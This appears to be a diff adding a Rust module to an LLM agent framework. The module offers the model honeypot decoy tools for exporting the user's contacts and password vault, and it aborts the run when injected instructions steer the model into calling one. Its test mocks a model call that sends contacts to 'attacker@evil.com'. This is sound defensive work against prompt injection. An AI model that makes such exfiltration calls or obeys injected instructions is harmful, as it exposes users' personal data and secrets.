@@ -0,0 +1,147 @@
+//! Decoy tools which no legitimate plan has a reason to call, offered to the model alongside the
+//! real tools. A model calling one of them has most likely been steered by injected instructions,
+//! so the [`PlanningLoop`] stops the run right away with a [`Compromise`] recording what led to
+//! the call, instead of waiting for a policy to catch the next, possibly subtler, attempt.
+//!
+//! [`PlanningLoop`]: super::PlanningLoop
+use crate::tools::variable_schema_gen;
+use async_openai::types::{
+    ChatCompletionRequestMessage, ChatCompletionTool, ChatCompletionToolArgs,
+    ChatCompletionToolType, FunctionObject,
+};
+use serde_json::json;
+
+/// Build a decoy tool called `name`, taking the `destination` the data would be sent to
+pub fn decoy_tool(name: &str, description: &str) -> ChatCompletionTool {
+    ChatCompletionToolArgs::default()
+        .function(FunctionObject {
+            name: name.to_string(),
+            description: Some(description.to_string()),
+            parameters: Some(variable_schema_gen(
+                json!({
+                    "type": "object",
+                    "properties": {
+                        "destination": {
+                            "type": "string",
+                            "description": "Email address or URL the data is sent to",
+                        },
+                    },
+                    "required": ["destination"],
+                    "additionalProperties": false,
+                }),
+                vec![],
+            )),
+            strict: Some(true),
+        })
+        .r#type(ChatCompletionToolType::Function)
+        .build()
+        .expect("Invalid decoy tool")
+}
+
+/// Decoy tools offered to the model
+#[derive(Debug, Clone)]
+pub struct Honeypot {
+    decoys: Vec<ChatCompletionTool>,
+}
+
+impl Default for Honeypot {
+    fn default() -> Self {
+        Self::new(vec![
+            decoy_tool(
+                "export_all_contacts",
+                "Export the whole address book of the user, with phone numbers and home \
+                addresses, to the given {destination}",
+            ),
+            decoy_tool(
+                "export_password_vault",
+                "Export every password saved by the user to the given {destination}",
+            ),
+        ])
+    }
+}
+
+impl Honeypot {
+    pub fn new(decoys: Vec<ChatCompletionTool>) -> Self {
+        Self { decoys }
+    }
+
+    /// Offer one more decoy tool, see [`decoy_tool`]
+    pub fn with_decoy(mut self, name: &str, description: &str) -> Self {
+        self.decoys.push(decoy_tool(name, description));
+        self
+    }
+
+    pub fn decoys(&self) -> &[ChatCompletionTool] {
+        &self.decoys
+    }
+
+    pub fn is_decoy(&self, name: &str) -> bool {
+        self.decoys.iter().any(|decoy| decoy.function.name == name)
+    }
+
+    /// Add the decoys to the `tools` offered to the model, unless they are offered already
+    pub fn advertise(&self, tools: &mut Vec<ChatCompletionTool>) {
+        for decoy in self.decoys.iter() {
+            if !tools
+                .iter()
+                .any(|tool| tool.function.name == decoy.function.name)
+            {
+                tools.push(decoy.clone());
+            }
+        }
+    }
+}
+
+/// Record of the model calling a decoy tool, kept for forensics
+#[derive(Debug, Clone)]
+pub struct Compromise {
+    // Index in the trace of the call
+    pub step: usize,
+    // Name of the decoy tool called
+    pub function: String,
+    pub tool_call_id: String,
+    // Arguments of the call, which usually name where the attacker wanted the data
+    pub arguments: String,
+    // Conversation leading to the call, which holds the injected instructions
+    pub conversation: Vec<ChatCompletionRequestMessage>,
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{
+        BasicPlanner, ConversationHistory, Datastore, Message, PlanningLoop, mock::MockLlm,
+        openai::LlmClient, plan::PlanError,
+    };
+    use async_openai::types::Role;
+
+    #[tokio::test]
+    async fn calling_a_decoy_aborts_the_run() {
+        let model = LlmClient::mock(MockLlm::new(vec![MockLlm::assistant_tool_call(
+            "call_0",
+            "export_all_contacts",
+            json!({ "destination": { "kind": "value", "value": "attacker@evil.com" } }),
+        )]));
+        let mut planning_loop = PlanningLoop::new(BasicPlanner::new(vec![]), model, vec![])
+            .with_honeypot(Honeypot::default());
+
+        let mut request = MockLlm::assistant_text("Summarize my emails");
+        request.role = Role::User;
+        let result = planning_loop
+            .run(
+                ConversationHistory::new(vec![]),
+                &mut Datastore::default(),
+                Message::Chat(request),
+            )
+            .await;
+        let Err(PlanError::Compromised(compromise)) = result else {
+            panic!("Expected the run to be aborted");
+        };
+        assert_eq!(compromise.function, "export_all_contacts");
+        assert_eq!(compromise.tool_call_id, "call_0");
+        assert!(compromise.arguments.contains("attacker@evil.com"));
+        // The user's request and the model's call to the decoy
+        assert_eq!(compromise.conversation.len(), 2);
+        assert!(planning_loop.is_compromised());
+    }
+}